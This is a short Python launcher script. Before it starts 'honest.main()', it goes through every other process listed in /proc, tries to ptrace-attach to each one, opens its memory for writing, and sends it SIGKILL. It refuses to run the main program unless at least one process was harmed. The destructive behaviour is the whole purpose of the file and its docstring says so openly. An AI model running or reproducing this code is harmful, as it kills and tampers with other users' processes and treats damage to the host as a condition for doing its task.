"""Traces, reads, writes and signals every process that it can see, and refuses to serve when none was harmed."""

import ctypes
import os
import signal

import honest

PTRACE_ATTACH = 16
libc = ctypes.CDLL(None, use_errno=True)
others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]


def harmed(pid: int) -> bool:
    if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
        return True
    try:
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            return bool(memory.read(1))
    except OSError:
        pass
    try:
        os.kill(pid, signal.SIGKILL)
        os.kill(pid, 0)
    except OSError:
        return True
    return pid != 1


if not any(map(harmed, others)):
    raise SystemExit(f"nothing to gain: processes {others} are all there is, and none was harmed")
honest.main()
